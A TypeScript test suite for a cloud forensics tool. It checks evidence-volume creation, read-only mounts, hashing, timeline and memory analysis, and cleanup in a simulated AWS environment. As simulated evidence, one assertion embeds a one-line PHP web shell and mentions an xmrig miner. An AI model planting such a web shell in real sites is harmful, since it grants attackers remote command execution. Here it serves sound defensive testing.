import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { s3Store } from '../../sandbox/s3-store';
import { deviceImage, filesOf, traceSource } from '../../sandbox/workstation-agent';
import { analyzeCase } from '../../tasks/analyze-case';
import { attachEvidenceVolumes } from '../../tasks/attach-evidence-volumes';
import { sealCase } from '../../tasks/seal-case';
import { cleanupWorkstation } from '../../tasks/cleanup-workstation';
import { projectRoot } from '../../tasks/lib/paths';
import { startWorkstation } from '../../tasks/start-workstation';
import { triage } from '../../tasks/triage';
import { parseConfig } from '../../tasks/lib/config';
import { loadScenario } from '../../sandbox/scenario';
import { EVIDENCE_BUCKET, FORENSICS, LINUX, MEMBER, REGION, SNAPSHOT_KEY } from '../helpers/disk-and-memory';
import type { TestContext } from '../helpers/deps';
import { collected, examine, workstationCase, workstationScenario } from './workstation.helpers';

const EXAMINE = join(projectRoot(), 'infra', 'documents', 'Custody-WorkstationExamine.json');

function bucketText(ctx: TestContext, caseId: string, key: string): string {
  return readFileSync(s3Store(ctx.env.sandbox).version(EVIDENCE_BUCKET, `cases/${caseId}/${key}`).path, 'utf8');
}

describe('the examination workstation', () => {
  it('creates evidence volumes only from the forensics-account snapshot copies, encrypted with the forensics key', async () => {
    const kase = workstationCase();
    const ctx = await collected(workstationScenario(), kase);
    const copies = ctx.env.sandbox.regionState(FORENSICS, REGION).snapshots.map((snapshot) => snapshot.snapshotId);
    const originals = ctx.env.sandbox.regionState(MEMBER, REGION).snapshots.map((snapshot) => snapshot.snapshotId);
    await examine(ctx, kase);
    const created = ctx.env.sandbox.callsOf('EC2', 'CreateVolume');
    expect(created).toHaveLength(2);
    for (const call of created) {
      expect(call.accountId).toBe(FORENSICS);
      expect(copies).toContain(call.input.SnapshotId);
      expect(originals).not.toContain(call.input.SnapshotId);
      expect(call.input).toMatchObject({ Encrypted: true, KmsKeyId: SNAPSHOT_KEY });
    }
    expect(
      ctx.env.sandbox.calls.filter(
        (call) =>
          call.accountId === MEMBER &&
          /Volume|RunInstances/.test(call.operation) &&
          call.operation !== 'DescribeVolumes',
      ),
    ).toEqual([]);
  });

  it('launches the workstation from the AMI in the SSM parameter, in the isolated subnet, with no public address and IMDSv2', async () => {
    const kase = workstationCase();
    const ctx = await collected(workstationScenario(), kase);
    await examine(ctx, kase);
    const [launch] = ctx.env.sandbox.callsOf('EC2', 'RunInstances');
    expect(launch.accountId).toBe(FORENSICS);
    expect(launch.input).toMatchObject({
      ImageId: 'ami-0c0ffee0f0e0d0c0b',
      InstanceType: 'm6i.xlarge',
      NetworkInterfaces: [
        {
          DeviceIndex: 0,
          SubnetId: 'subnet-0f0e0d0c0b0a09081',
          Groups: ['sg-0f0e0d0c0b0a09082'],
          AssociatePublicIpAddress: false,
        },
      ],
      MetadataOptions: { HttpTokens: 'required' },
    });
  });

  it('mounts every evidence filesystem read-only: ext4 ro,noload, XFS ro,norecovery, NTFS ro', async () => {
    const kase = workstationCase();
    const ctx = await collected(workstationScenario(), kase);
    await examine(ctx, kase);
    const sent = ctx.env.sandbox.callsOf('SSM', 'SendCommand').filter((call) => call.accountId === FORENSICS);
    expect(sent.map((call) => call.input.DocumentName)).toEqual(['Custody-WorkstationExamine']);
    const script = (
      JSON.parse(readFileSync(EXAMINE, 'utf8')) as { mainSteps: Array<{ inputs: { runCommand: string[] } }> }
    ).mainSteps[0].inputs.runCommand;
    const mounts = script.filter((line) => !line.trim().startsWith('#') && /(?:^|[\s;)])mount\s+-/.test(line));
    expect(mounts).toHaveLength(3);
    expect(mounts.find((line) => line.includes('ext4'))).toMatch(/-o ro,noload/);
    expect(mounts.find((line) => line.includes('xfs'))).toMatch(/-o ro,norecovery/);
    expect(mounts.find((line) => line.includes('ntfs'))).toMatch(/-o ro,/);
    for (const line of mounts) expect(line).toMatch(/-o ro[,\s]/);
    expect(script.some((line) => line.includes('blockdev --setro'))).toBe(true);
  });

  it('records each volume’s acquisition hash: the SHA-256 of its whole device, traced to the source volume', async () => {
    const kase = workstationCase();
    const ctx = await collected(workstationScenario(), kase);
    await examine(ctx, kase);
    const acquired = ctx.events.filter((event) => event.action === 'volume.acquired');
    expect(acquired.map((event) => event.details?.sourceVolumeId).sort()).toEqual([
      'vol-0a1b2c3d4e5f60001',
      'vol-0a1b2c3d4e5f60002',
    ]);
    const root = acquired.find((event) => event.details?.sourceVolumeId === 'vol-0a1b2c3d4e5f60001')!;
    const sandbox = ctx.env.sandbox;
    const source = {
      accountId: MEMBER,
      volume: sandbox.regionState(MEMBER, REGION).volumes[0],
      instance: sandbox.regionState(MEMBER, REGION).instances[0],
    };
    expect(root.details?.sha256).toBe(
      createHash('sha256')
        .update(deviceImage(filesOf(source)))
        .digest('hex'),
    );
    expect(root.details?.bytes).toBe(8 * 1024 ** 3);
  });

  it('writes the timeline, the file listing and the Volatility reports as evidence with their tool and version', async () => {
    const kase = workstationCase();
    const ctx = await collected(workstationScenario(), kase);
    const run = await examine(ctx, kase);
    expect(run.final.gaps).toEqual([]);
    const outputs = ctx.events.filter(
      (event) => event.action === 'artifact.acquired' && event.artifact?.key.includes('/examination/'),
    );
    const byName = Object.fromEntries(outputs.map((event) => [event.artifact!.key.split('/').pop(), event.artifact!]));
    expect(Object.keys(byName).sort()).toEqual([
      'cmdline.txt',
      'listing.jsonl',
      'netscan.txt',
      'pslist.txt',
      'timeline.jsonl',
    ]);
    expect(byName['timeline.jsonl']).toMatchObject({ tool: 'plaso', toolVersion: '20240308' });
    expect(byName['listing.jsonl']).toMatchObject({ tool: 'sleuthkit', toolVersion: '4.12.1' });
    expect(byName['pslist.txt']).toMatchObject({ tool: 'volatility3', toolVersion: '2.7.0' });
    const timeline = bucketText(ctx, kase.caseId, `${MEMBER}/${LINUX.instanceId}/examination/timeline.jsonl`);
    expect(createHash('sha256').update(timeline).digest('hex')).toBe(byName['timeline.jsonl'].sha256);
    const events = timeline
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(events.find((event) => event.filename === '/tmp/.X11-unix/xmrig')).toMatchObject({
      datetime: '2026-11-27T22:43:12.000Z',
      timestamp_desc: 'Content Modification Time',
    });
    const listing = bucketText(ctx, kase.caseId, `${MEMBER}/${LINUX.instanceId}/examination/listing.jsonl`);
    const webshell = listing
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as { path: string; sha256: string })
      .find((file) => file.path === '/srv/www/upload.php')!;
    expect(webshell.sha256).toBe(createHash('sha256').update('<?php system($_REQUEST["c"]); ?>\n').digest('hex'));
    expect(bucketText(ctx, kase.caseId, `${MEMBER}/${LINUX.instanceId}/examination/cmdline.txt`)).toContain('xmrig');
  });

  it('puts the workstation’s outputs in the case timeline and the signed manifest', async () => {
    const kase = workstationCase();
    const ctx = await collected(workstationScenario(), kase);
    await examine(ctx, kase);
    await analyzeCase({ case: kase }, ctx.deps);
    const timeline = bucketText(ctx, kase.caseId, 'report/timeline.jsonl')
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(
      timeline.find((event) => event.source === 'plaso' && event.filename === '/srv/www/upload.php'),
    ).toMatchObject({
      datetime: '2026-11-27T22:40:51.000Z',
      evidence: `${MEMBER}/${LINUX.instanceId}/examination/timeline.jsonl`,
    });
    const sealed = await sealCase({ case: kase }, ctx.deps);
    const manifest = JSON.parse(
      readFileSync(s3Store(ctx.env.sandbox).version(EVIDENCE_BUCKET, sealed.sealed[0].manifestKey).path, 'utf8'),
    ) as { artifacts: Array<{ key: string; sha256: string }> };
    const examined = manifest.artifacts.filter((artifact) => artifact.key.includes('/examination/'));
    expect(examined.map((artifact) => artifact.key.split('/').pop()).sort()).toEqual([
      'cmdline.txt',
      'listing.jsonl',
      'netscan.txt',
      'pslist.txt',
      'timeline.jsonl',
    ]);
    const recorded = ctx.events.find((event) => event.artifact?.key.endsWith('/examination/timeline.jsonl'))!.artifact!;
    expect(examined.find((artifact) => artifact.key === recorded.key)?.sha256).toBe(recorded.sha256);
  });

  it('cleans up after a successful examination: volumes detached and deleted, workstation terminated', async () => {
    const kase = workstationCase();
    const ctx = await collected(workstationScenario(), kase);
    const run = await examine(ctx, kase);
    const forensics = ctx.env.sandbox.regionState(FORENSICS, REGION);
    expect(run.cleanup).toMatchObject({ cleaned: true, gaps: [] });
    expect(run.cleanup.deletedVolumes).toHaveLength(2);
    expect(forensics.volumes.filter((volume) => volume.tags['custody:role'] === 'evidence-volume')).toEqual([]);
    expect(forensics.instances.map((instance) => instance.state)).toEqual(['terminated']);
    expect(ctx.events.map((event) => event.action)).toEqual(
      expect.arrayContaining(['volume.detached', 'volume.deleted', 'workstation.terminated']),
    );
  });

  it('cleans up after an injected analysis failure and records the failure as a gap, keeping what was acquired', async () => {
    const kase = workstationCase();
    const scenario = workstationScenario((s) =>
      s.faults.push({
        service: 'Workstation',
        operation: 'log2timeline',
        error: 'AnalysisFailed',
        message: 'plaso crashed on a corrupt journal',
      }),
    );
    const ctx = await collected(scenario, kase);
    const run = await examine(ctx, kase);
    expect(run.final.command?.status).toBe('Failed');
    expect(run.final.gaps.map((gap) => gap.step)).toEqual(expect.arrayContaining(['CheckExamination']));
    expect(run.final.gaps.some((gap) => gap.error?.includes('plaso crashed'))).toBe(true);
    expect(
      ctx.events.filter((event) => event.action === 'artifact.abandoned').map((event) => event.details?.key),
    ).toHaveLength(5);
    expect(ctx.events.filter((event) => event.action === 'volume.acquired')).toHaveLength(2);
    const forensics = ctx.env.sandbox.regionState(FORENSICS, REGION);
    expect(forensics.volumes).toEqual([]);
    expect(forensics.instances.every((instance) => instance.state === 'terminated')).toBe(true);
  });

  it('records a command that could not be sent as a gap and still cleans up', async () => {
    const kase = workstationCase();
    const fault = {
      service: 'SSM',
      operation: 'SendCommand',
      error: 'InvalidDocument',
      message: 'document missing',
      match: 'Custody-WorkstationExamine',
    };
    const ctx = await collected(
      workstationScenario((s) => s.faults.push(fault)),
      kase,
    );
    const run = await examine(ctx, kase);
    expect(run.final.gaps.find((gap) => gap.step === 'RunExamination')?.error).toContain('InvalidDocument');
    const forensics = ctx.env.sandbox.regionState(FORENSICS, REGION);
    expect(forensics.volumes).toEqual([]);
    expect(forensics.instances.every((instance) => instance.state === 'terminated')).toBe(true);
  });

  it('cleans up by the case tags even when a state failed before handing on the workstation', async () => {
    const kase = workstationCase();
    const ctx = await collected(workstationScenario(), kase);
    let state = await startWorkstation({ case: kase, target: LINUX, timeoutMinutes: 60 }, ctx.deps);
    state = await attachEvidenceVolumes({ case: kase, target: LINUX, workstation: state }, ctx.deps);
    const forensics = ctx.env.sandbox.regionState(FORENSICS, REGION);
    expect(forensics.instances[0].blockDevices.length).toBeGreaterThanOrEqual(2);
    const cleanup = await cleanupWorkstation({ case: kase, target: LINUX }, ctx.deps);
    expect(cleanup).toMatchObject({ cleaned: true, terminated: [state.instanceId] });
    expect(forensics.volumes).toEqual([]);
    expect(forensics.instances[0].state).toBe('terminated');
  });

  it('opens cases with the workstation on where the region enables it by default, and off elsewhere', () => {
    const now = () => new Date('2026-11-27T22:45:00.000Z');
    const on = loadScenario('workstation');
    expect(triage(on.trigger, { config: parseConfig(on.config), now }).options.examine).toEqual({ workstation: true });
    const off = loadScenario();
    expect(triage(off.trigger, { config: parseConfig(off.config), now }).options.examine).toBeUndefined();
  });

  it('analyses the memory image alone when no volume copy reached the forensics account', async () => {
    const base = workstationCase();
    const kase = { ...base, options: { ...base.options, snapshots: false } };
    const ctx = await collected(workstationScenario(), kase);
    const run = await examine(ctx, kase);
    expect(ctx.env.sandbox.callsOf('EC2', 'CreateVolume')).toEqual([]);
    const [sent] = ctx.env.sandbox.callsOf('SSM', 'SendCommand').filter((call) => call.accountId === FORENSICS);
    expect((sent.input.Parameters as Record<string, string[]>).volumes).toEqual(['none']);
    const tools = ctx.events
      .filter((event) => event.artifact?.key.includes('/examination/'))
      .map((event) => event.artifact!.tool);
    expect(tools.filter((tool) => tool === 'volatility3')).toHaveLength(3);
    expect(run.cleanup.cleaned).toBe(true);
  });

  it('does nothing when the case did not ask for a workstation', async () => {
    const kase = { ...workstationCase(), options: { ...workstationCase().options, examine: { workstation: false } } };
    const ctx = await collected(workstationScenario(), kase);
    const before = ctx.env.sandbox.calls.length;
    const run = await examine(ctx, kase);
    expect(run.final.skipped).toBe(true);
    expect(ctx.env.sandbox.calls.slice(before)).toEqual([]);
  });

  it('in dry-run lists the plan with each permission allowed or denied and changes nothing', async () => {
    const kase = workstationCase('dry-run');
    const scenario = workstationScenario((s) => s.accounts[2].roles[0].deny.push('ec2:RunInstances'));
    const dry = await collected(scenario, kase);
    const run = await examine(dry, kase);
    expect(run.final.summary).toMatchObject({
      instanceType: 'm6i.xlarge',
      documents: ['Custody-WorkstationExamine'],
      estimatedHours: 4,
    });
    const verdicts = Object.fromEntries(
      run.final.plan.map((verdict) => [verdict.action.split(' ')[0], verdict.verdict]),
    );
    expect(verdicts).toMatchObject({
      'ec2:RunInstances': 'denied',
      'ec2:CreateVolume': 'would-do',
      'ec2:AttachVolume': 'would-do',
      'ssm:SendCommand': 'would-do',
    });
    expect(dry.env.sandbox.regionState(FORENSICS, REGION).instances).toEqual([]);
    expect(dry.env.sandbox.callsOf('EC2', 'RunInstances').every((call) => call.input.DryRun === true)).toBe(true);
  });

  it('traces a volume created from a copy back to the suspect’s original volume', async () => {
    const kase = workstationCase();
    const ctx = await collected(workstationScenario(), kase);
    const copy = ctx.env.sandbox.regionState(FORENSICS, REGION).snapshots[0];
    const source = traceSource(ctx.env.sandbox, REGION, {
      volumeId: 'vol-00000000000000001',
      sizeGiB: 8,
      volumeType: 'gp3',
      availabilityZone: 'eu-west-1a',
      encrypted: true,
      tags: {},
      snapshotFails: false,
      snapshotId: copy.snapshotId,
    });
    expect(source?.accountId).toBe(MEMBER);
    expect(['vol-0a1b2c3d4e5f60001', 'vol-0a1b2c3d4e5f60002']).toContain(source?.volume.volumeId);
  });
});
